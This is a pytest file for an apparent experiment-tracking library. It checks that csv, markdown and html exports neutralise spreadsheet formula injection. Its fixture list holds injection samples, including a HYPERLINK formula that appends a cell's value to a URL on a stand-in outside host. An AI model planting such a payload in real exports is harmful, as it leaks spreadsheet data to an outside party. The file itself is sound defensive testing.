"""Exports are data, not formulas: text a spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab,
carriage return first) gets a ``'`` before it in csv, markdown and html; ``raw=True`` keeps it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

import sheettrack
from sheettrack.reports import neutralise

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1"]


@pytest.fixture
def book(tmp_book: Path) -> Path:
    sheettrack.log_many(tmp_book, [{"params": {"note": text, "model": text, "n": i},
                                    "metrics": {"delta": -0.5, "accuracy": 0.5 + i / 100}}
                                   for i, text in enumerate(HOSTILE)], template="classification", on_error="raise")
    return tmp_book


def test_csv_export_writes_formula_text_as_text(book: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(sheettrack.export(book, "csv"), newline="")))
    assert [r["note"] for r in rows] == ["'" + t for t in HOSTILE]
    assert {r["delta"] for r in rows} == {"-0.5"}  # numbers are numbers, never prefixed


def test_csv_export_keeps_raw_text_when_asked(book: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(sheettrack.export(book, "csv", raw=True), newline="")))
    assert [r["note"] for r in rows] == HOSTILE


def test_csv_export_read_by_libreoffice_runs_no_formula(book: Path, tmp_path: Path, libreoffice) -> None:
    out = tmp_path / "runs.csv"
    sheettrack.export(book, "csv", out)
    sheets = libreoffice.csv(out)
    (rows,) = sheets.values()
    notes = [r[rows[0].index("note")] for r in rows[1:]]
    assert "2" not in notes and all("1+1" in n or "SUM" in n or "HYPERLINK" in n or "2+3" in n for n in notes)


def test_markdown_and_html_exports_neutralise_formula_text(book: Path) -> None:
    md = sheettrack.export(book, "markdown")
    assert "| '=1+1 |" in md.replace("  ", " ") or "'=1+1" in md
    assert "| =1+1 |" not in md
    page = sheettrack.export(book, "html")
    assert "&#x27;=1+1" in page or "'=1+1" in page
    assert ">=1+1<" not in page


def test_only_text_that_starts_a_formula_is_changed() -> None:
    assert neutralise("resnet-50") == "resnet-50"
    assert neutralise("a=b") == "a=b"
    assert neutralise(-1.5) == -1.5
    assert neutralise("") == ""
    assert neutralise("-x") == "'-x"
